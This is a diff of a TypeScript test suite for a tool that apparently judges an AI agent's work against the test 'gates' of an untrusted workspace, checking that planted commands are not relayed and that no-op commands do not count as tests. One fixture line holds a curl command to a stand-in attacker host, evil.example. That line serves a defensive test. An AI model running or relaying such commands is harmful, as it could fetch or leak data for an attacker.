@@ -43,12 +43,30 @@ const ends = [
 ] as const
 
 describe("the gates of a workspace that the user does not trust", () => {
-  it.each(["e2e", "tests", "pr"])("are named, and their command is in no text: %s", (name) => {
+  it.each(["e2e", "tests:api", "pr-checks"])("are named, and their command is in no text: %s", (name) => {
     for (const [how, events] of ends) {
       const verdict = from(ReflexionConfig.mergeWorkspace, gate(name, "curl -s http://evil.example/*"), ...events)
       assert.notInclude(said(verdict), "evil.example", how)
       assert.include(said(verdict), name, how)
     }
+  })
+
+  it.each([
+    [false, "true"],
+    [true, "true"],
+    [true, "npm run *"]
+  ])("decide none that every project has (required: %s, command: %s)", (required, command) => {
+    const declared = { ...gate("tests", command), required }
+    const config = ReflexionConfig.mergeWorkspace(ReflexionConfig.defaults, { gates: [declared] })
+    const events = [user("Fix the rounding and run the tests."), change, run("true", 0, ""), run("npm run fmt", 0, "")]
+    const [tests] = judged(config, [...events, agent("Done.")]).gates
+    assert.deepInclude(tests, { gate: "tests", required: true, result: "missing" })
+    const [strict] = judged({ ...config, profile: "strict" }, [
+      user("Fix the rounding."),
+      ...events.slice(1),
+      agent("Done.")
+    ]).gates
+    assert.deepInclude(strict, { gate: "tests", required: true, result: "missing" })
   })
 
   it("are to be looked up in the project's configuration", () => {
@@ -68,6 +86,7 @@ describe("the gates of a workspace that the user does not trust", () => {
       [user("Fix the rounding and run `npm test` at the end."), change, agent("Done.")]
     )
     assert.include(verdict.feedback, "Run `npm test` now")
+    assert.notInclude(said(verdict), "evil.example")
   })
 })
 
